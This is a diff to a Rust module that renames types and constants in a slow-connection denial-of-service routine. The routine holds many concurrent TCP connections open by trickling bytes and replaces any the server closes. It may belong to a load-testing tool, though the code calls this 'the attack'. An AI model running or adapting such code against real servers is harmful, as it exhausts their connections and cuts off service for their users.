@@ -9,7 +9,7 @@ use tokio::net::TcpStream;
 use tokio::task::JoinSet;
 
 use super::connection::{open, status};
-use super::scene::Scene;
+use super::scene::AttackContext;
 
 /// Time over which the connections are opened.
 const RAMP: Duration = Duration::from_secs(3);
@@ -17,12 +17,12 @@ const RAMP: Duration = Duration::from_secs(3);
 /// Pause between the end of a connection and its replacement.
 const PAUSE: Duration = Duration::from_secs(5);
 
-/// Pause between two pieces.
-const PACE: Duration = Duration::from_secs(1);
+/// Pause between two chunks.
+const SEND_INTERVAL: Duration = Duration::from_secs(1);
 
 /// Slow connections of one kind.
 #[derive(Debug, Clone)]
-pub struct Slow {
+pub struct SlowConnections {
     /// Prefix of the names of counts.
     pub name: &'static str,
     /// Number of concurrent connections.
@@ -30,12 +30,12 @@ pub struct Slow {
     /// Text that is sent at once.
     pub opening: String,
     /// Bytes that are then sent repeatedly, if any.
-    pub piece: &'static [u8],
+    pub chunk: &'static [u8],
 }
 
-impl Slow {
+impl SlowConnections {
     /// Holds the connections until the attack is over; replaces those that the server closes.
-    pub async fn run(self, scene: Arc<Scene>) {
+    pub async fn run(self, scene: Arc<AttackContext>) {
         let mut tasks = JoinSet::new();
         let connections = self.connections;
         let slow = Arc::new(self);
@@ -59,12 +59,12 @@ impl Slow {
         tasks.join_all().await;
     }
 
-    fn count(&self, scene: &Scene, what: &str) {
+    fn count(&self, scene: &AttackContext, what: &str) {
         scene.count(&format!("{} {what}", self.name));
     }
 
     /// Opens a connection and holds it until the server closes it.
-    async fn hold_one(&self, scene: &Scene) {
+    async fn hold_one(&self, scene: &AttackContext) {
         let Ok(mut stream) = open(scene).await else { return self.count(scene, "not accepted") };
         if stream.write_all(self.opening.as_bytes()).await.is_err() {
             return self.count(scene, "closed");
@@ -73,8 +73,8 @@ impl Slow {
         self.count(scene, "closed");
     }
 
-    /// Sends pieces until there is a response, then waits for the end of the connection.
-    async fn trickle(&self, scene: &Scene, stream: &mut TcpStream) {
+    /// Sends chunks until there is a response, then waits for the end of the connection.
+    async fn trickle(&self, scene: &AttackContext, stream: &mut TcpStream) {
         let (mut reader, mut writer) = stream.split();
         let mut buffer = [0; 4096];
         let mut answered = false;
@@ -87,8 +87,8 @@ impl Slow {
                         answered = true;
                     }
                 },
-                () = tokio::time::sleep(PACE), if !answered && !self.piece.is_empty() => {
-                    if writer.write_all(self.piece).await.is_err() {
+                () = tokio::time::sleep(SEND_INTERVAL), if !answered && !self.chunk.is_empty() => {
+                    if writer.write_all(self.chunk).await.is_err() {
                         // Reads what the server sent before it closed the connection.
                         let read = reader.read(&mut buffer).await.unwrap_or(0);
                         if let Some(status) = status(buffer.get(..read).unwrap_or_default()) {
@@ -103,7 +103,7 @@ impl Slow {
 }
 
 /// Runs several kinds at the same time.
-pub async fn run_all(scene: &Arc<Scene>, kinds: Vec<Slow>) -> anyhow::Result<()> {
+pub async fn run_all(scene: &Arc<AttackContext>, kinds: Vec<SlowConnections>) -> anyhow::Result<()> {
     let mut tasks = JoinSet::new();
     for kind in kinds {
         tasks.spawn(kind.run(Arc::clone(scene)));
